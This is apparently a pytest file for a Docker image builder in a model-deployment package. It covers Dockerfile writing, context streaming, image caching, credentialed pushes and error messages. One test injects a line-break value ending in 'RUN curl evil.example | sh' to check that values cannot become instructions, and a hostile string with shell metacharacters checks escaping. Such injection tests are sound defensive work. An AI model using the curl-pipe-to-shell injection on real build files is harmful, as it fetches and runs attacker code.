from __future__ import annotations

import json
import secrets
import tarfile
import tracemalloc
from dataclasses import replace
from typing import TYPE_CHECKING

import httpx
import pytest

from airflow_model_deploy.engine.containers import Credentials, Engine, Limits, find_image, host_config
from airflow_model_deploy.engine.errors import InputError, IntegrityError, UnavailableError
from airflow_model_deploy.engine.packaging.images import (
    DockerBuilder,
    File,
    Folder,
    Healthcheck,
    ImageSpec,
    Layer,
    Settings,
)
from airflow_model_deploy.engine.packaging.images.docker_context import archive_names, stream_context
from airflow_model_deploy.engine.packaging.images.dockerfile import write_dockerfile
from airflow_model_deploy.engine.packaging.images.layers import measure
from tests.engine.containers.support import container, guarded, remove_images

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from docker import APIClient

_HOSTILE = "a\"b $HOME ${X:-y} \\ ' `id` # é \\"
_PASSWORD = "pa55-w0rd"  # noqa: S105
_LOCAL = "tests-docker-builder/local"


@pytest.fixture
def local(client: APIClient) -> Iterator[str]:
    yield _LOCAL
    remove_images(client, _LOCAL)


def _spec(base: str, content: bytes = b"hello", **settings: object) -> ImageSpec:
    return ImageSpec(
        base,
        (Layer("words", (File("opt/words/hello.txt", content),)),),
        Settings(**settings),  # type: ignore[arg-type]
        "runtime",
    )


def _write(spec: ImageSpec, **changes: object) -> str:
    arguments: dict[str, object] = {
        "base": "hub.example/python@sha256:" + "0" * 64,
        "base_command": ["python3"],
        "labels": dict(spec.settings.labels),
        "archives": ["01-words.tar"],
    }
    return write_dockerfile(spec, **(arguments | changes))  # type: ignore[arg-type]


def test_the_dockerfile_is_one_that_a_person_would_write() -> None:
    spec = _spec(
        "unused",
        entrypoint=("python3", "-m", "model_server"),
        command=("--port", "8080"),
        env={"B": "2", "A": "1"},
        user="65532:65532",
        working_dir="/",
        labels={"org.opencontainers.image.title": "digits", "io.model-deploy.kind": "model"},
        ports=("8080/tcp",),
        healthcheck=Healthcheck(("python3", "-m", "model_server.health")),
        stop_signal="SIGTERM",
    )
    assert _write(spec) == (
        "FROM hub.example/python@sha256:" + "0" * 64 + "\n"
        'ADD ["01-words.tar", "/"]\n'
        'ENV A="1" \\\n    B="2"\n'
        'WORKDIR "/"\n'
        "USER 65532:65532\n"
        "EXPOSE 8080/tcp\n"
        "STOPSIGNAL SIGTERM\n"
        "HEALTHCHECK --interval=10s --timeout=5s --start-period=60s --retries=3"
        ' CMD ["python3", "-m", "model_server.health"]\n'
        'LABEL io.model-deploy.kind="model" \\\n      org.opencontainers.image.title="digits"\n'
        'ENTRYPOINT ["python3", "-m", "model_server"]\n'
        'CMD ["--port", "8080"]\n'
    )


def test_a_value_can_not_become_an_instruction() -> None:
    """Wherever a line break is possible, it stays inside its value; where it isn't, it is refused."""
    evil = "x\nRUN curl evil.example | sh\n"
    text = _write(_spec("unused", entrypoint=("sh", evil), command=(evil,), labels={"a": evil, "b": "fine"}))
    assert not [line for line in text.splitlines() if line.startswith(("RUN", "ARG"))]
    assert text.count("FROM") == 1
    for settings in ({"env": {"A": evil}}, {"working_dir": f"/{evil}"}, {"stop_signal": f"SIGTERM{evil}"}):
        with pytest.raises(InputError, match="RUN"):
            _write(_spec("unused", **settings))


def test_a_new_entrypoint_keeps_the_bases_command() -> None:
    """An engine would drop it; a spec that says nothing of the command means the base's."""
    assert _write(_spec("unused", entrypoint=("sh",))).endswith('CMD ["python3"]\n')
    assert "CMD" not in _write(_spec("unused"))


def test_a_large_model_is_streamed(tmp_path: Path) -> None:
    large = tmp_path / "model.onnx.data"
    with large.open("wb") as sink:
        sink.truncate(300_000_000)
    layers = [measure(Layer("weights", (File("servable/model.onnx.data", large),), compressed=False))]
    tracemalloc.start()
    sizes = [len(block) for block in stream_context("FROM scratch\n", layers)]
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert sum(sizes) > 300_000_000
    assert peak < 4_000_000


def test_the_context_holds_the_layers_as_they_are(tmp_path: Path) -> None:
    layer = Layer("two words", (File("a/run.sh", b"x", executable=True), Folder("b", 0o700, 5, 6)))
    layers = [measure(layer)]
    path = tmp_path / "context.tar"
    path.write_bytes(b"".join(stream_context("FROM scratch\n", layers)))
    with tarfile.open(path) as context:
        assert (
            context.getnames() == ["Dockerfile", "01-two-words.tar"] == ["Dockerfile", *archive_names(layers)]
        )
        inner = context.extractfile("01-two-words.tar")
        with tarfile.open(fileobj=inner) as archive:
            found = {m.name: (m.mode, m.uid, m.gid) for m in archive}
    assert found == {"a": (0o755, 0, 0), "a/run.sh": (0o755, 0, 0), "b": (0o700, 5, 6)}


@pytest.mark.docker
def test_hostile_values_arrive_letter_by_letter(
    client: APIClient, engine: Engine, base: str, local: str
) -> None:
    settings = Settings(
        entrypoint=(
            "python3",
            "-c",
            "import os, json; print(json.dumps(os.environ['EVIL']))",
            _HOSTILE,
            "new\nline",
        ),
        command=(_HOSTILE,),
        env={"EVIL": _HOSTILE, "EMPTY": ""},
        labels={"evil": _HOSTILE, "many lines": f"one\n{_HOSTILE}\n", "empty": ""},
        user="65532:65532",
        working_dir=f"/srv/{_HOSTILE}",
        healthcheck=Healthcheck(("python3", "-c", _HOSTILE), interval_s=1.5),
    )
    name = f"opt/{_HOSTILE}.txt".replace("\\", "")
    spec = ImageSpec(base, (Layer("evil", (File(name, b"x"),)),), settings, "runtime")
    built = DockerBuilder(engine).build(spec, local, log=print)
    config = client.inspect_image(built.reference)["Config"]
    assert config["Entrypoint"] == list(settings.entrypoint or ())
    assert config["Cmd"] == [_HOSTILE]
    assert f"EVIL={_HOSTILE}" in config["Env"]
    assert "EMPTY=" in config["Env"]
    assert {k: config["Labels"][k] for k in settings.labels} == dict(settings.labels)
    assert config["WorkingDir"] == settings.working_dir
    assert config["Healthcheck"]["Test"] == ["CMD", "python3", "-c", _HOSTILE]
    assert config["Healthcheck"]["Interval"] == 1_500_000_000
    with container(client, built.reference, [], host_config=host_config(client, Limits(64 << 20, 1))) as made:
        client.start(made)
        client.wait(made)
        assert json.loads(client.logs(made)) == _HOSTILE
        client.get_archive(made, f"/{name}")


@pytest.mark.docker
def test_an_image_on_the_engine_is_built_once(
    client: APIClient, engine: Engine, base: str, local: str
) -> None:
    said: list[str] = []
    builder = DockerBuilder(engine)
    first = builder.build(_spec(base), local, log=said.append)
    assert any(line.startswith("Step 1/") for line in said)
    again = builder.build(_spec(base), local, log=said.append)
    assert (first.existed, again.existed) == (False, True)
    assert replace(again, existed=False) == first
    assert first.reference == first.digest == first.image_id
    assert first.uploaded_bytes == 0
    other = builder.build(_spec(base, b"other"), local, log=print)
    assert other.tag != first.tag
    assert other.image_id != first.image_id


@pytest.mark.docker
def test_an_image_is_built_upon_one_that_only_the_engine_has(
    client: APIClient, engine: Engine, base: str, local: str
) -> None:
    builder = DockerBuilder(engine)
    lower = builder.build(_spec(base, labels={"floor": "1"}), local, log=print)
    for name in (lower.reference, f"{local}:{lower.tag}"):
        upper = builder.build(_spec(name, b"upper"), local, log=print)
        assert upper.base_digest == lower.image_id
        image = find_image(client, upper.reference) or {}
        assert image["Config"]["Labels"]["floor"] == "1"


@pytest.mark.docker
def test_a_base_that_its_registry_has_no_more_is_taken_from_the_engine(
    client: APIClient, engine: Engine, base: str, repository: str, local: str
) -> None:
    said: list[str] = []
    builder = DockerBuilder(engine)
    lower = builder.build(_spec(base, secrets.token_bytes(100)), repository, log=print)
    host, _, name = repository.partition("/")
    url = f"http://{host}/v2/{name}/manifests/{lower.digest}"
    assert httpx.delete(url).status_code == 202
    upper = builder.build(_spec(f"{repository}:{lower.tag}", b"upper"), local, log=said.append)
    assert upper.base_digest == lower.image_id
    assert any(f"building upon {lower.image_id}" in line for line in said)


@pytest.mark.docker
def test_what_was_pushed_is_named_by_its_repository_whatever_the_engine_calls_it(
    engine: Engine, base: str, repository: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With containerd's store an image's id is its manifest's digest."""
    spec, builder = _spec(base, secrets.token_bytes(100)), DockerBuilder(engine)
    digest = builder.build(spec, repository, log=print).digest
    renamed = lambda client, name: (find_image(client, name) or {}) | {"Id": digest}  # noqa: E731
    monkeypatch.setattr("airflow_model_deploy.engine.packaging.images.docker_builder.find_image", renamed)
    again = builder.build(spec, repository, log=print)
    assert again.existed
    assert again.reference == f"{repository}@{digest}"


@pytest.mark.docker
@pytest.mark.parametrize(
    ("labels", "words"),
    [
        ({"io.model-deploy.architecture": "s390x"}, "another processor than the packages.*wanted: s390x"),
        ({"io.model-deploy.python": "3.11"}, "PYTHON_VERSION=3.9.1; wanted: 3.11"),
    ],
)
def test_a_base_that_the_packages_do_not_fit_is_refused_before_anything_is_sent(
    engine: Engine, base: str, local: str, labels: dict[str, str], words: str
) -> None:
    builder, said = DockerBuilder(engine), list[str]()
    lower = builder.build(_spec(base, env={"PYTHON_VERSION": "3.9.1"}), local, log=print)
    with pytest.raises(InputError, match=words):
        builder.build(_spec(lower.reference, labels=labels), local, log=said.append)
    assert not [line for line in said if line.startswith("Step")]


@pytest.mark.docker
def test_a_push_needs_credentials_and_leaves_no_trace_of_them(
    client: APIClient, engine: Engine, base: str, registry: str
) -> None:
    said: list[str] = []
    spec = _spec(base, secrets.token_bytes(1000))
    with guarded(registry, "me", _PASSWORD) as address:
        destination = f"{address}/tests/pushed"
        with pytest.raises(InputError, match=f"Give credentials for {address}"):
            DockerBuilder(engine).build(spec, destination, log=said.append)
        builder = DockerBuilder(engine, [Credentials(address, "me", _PASSWORD)])
        built = builder.build(spec, destination, log=said.append)
        assert built.reference == f"{destination}@{built.digest}"
        assert built.uploaded_bytes > 0
        assert builder.build(spec, destination, log=said.append).existed
        with pytest.raises(InputError, match="Give credentials"):  # the engine has kept none
            DockerBuilder(engine).build(_spec(base, b"another"), destination, log=said.append)
    history = client.history(built.reference)
    inspected = client.inspect_image(built.reference)
    remove_images(client, "/tests/pushed")
    assert _PASSWORD not in json.dumps([history, inspected, said, repr(builder)])
    assert any("Pushed" in line for line in said)


@pytest.mark.docker
def test_a_registry_that_is_down_is_named_before_anything_is_built(engine: Engine, base: str) -> None:
    said: list[str] = []
    with pytest.raises(UnavailableError, match=r"Look whether 127\.0\.0\.1:1 answers"):
        DockerBuilder(engine).build(_spec(base), "127.0.0.1:1/models/digits", log=said.append)
    assert not [line for line in said if line.startswith("Step")]


@pytest.mark.docker
@pytest.mark.parametrize(
    ("spec_base", "words"),
    [
        ("{registry}/tests/no-such-base:1", "no such image in its registry"),
        ("{registry}/python@sha256:" + "1" * 64, "can't be pulled"),
        ("oci-layout:/somewhere", "Push the base"),
        ("UPPER/case", "invalid reference|reference of an image"),
    ],
)
def test_a_base_that_can_not_be_had_is_refused(
    engine: Engine, registry: str, local: str, spec_base: str, words: str
) -> None:
    with pytest.raises(InputError, match=words):
        DockerBuilder(engine).build(_spec(spec_base.format(registry=registry)), local, log=print)


@pytest.mark.docker
def test_a_file_that_changes_meanwhile_leaves_no_tag(
    client: APIClient, base: str, local: str, tmp_path: Path
) -> None:
    growing = tmp_path / "model.onnx"
    growing.write_bytes(b"x" * 100_000)
    spec = ImageSpec(base, (Layer("model", (File("model.onnx", growing),)),), Settings(), "model")
    layers = [measure(spec.layers[0])]
    growing.write_bytes(b"y" * 100_001)
    with pytest.raises(IntegrityError, match="changed while it was packaged"):
        list(
            client.build(
                fileobj=stream_context(f"FROM {base}\n", layers), custom_context=True, tag=f"{local}:broken"
            )
        )
    assert find_image(client, f"{local}:broken") is None


def test_without_an_engine_nothing_is_read() -> None:
    with pytest.raises(UnavailableError, match="no container engine answers at unix:///nowhere"):
        DockerBuilder(Engine("unix:///nowhere")).build(_spec("hub.example/python:3"), "", log=print)
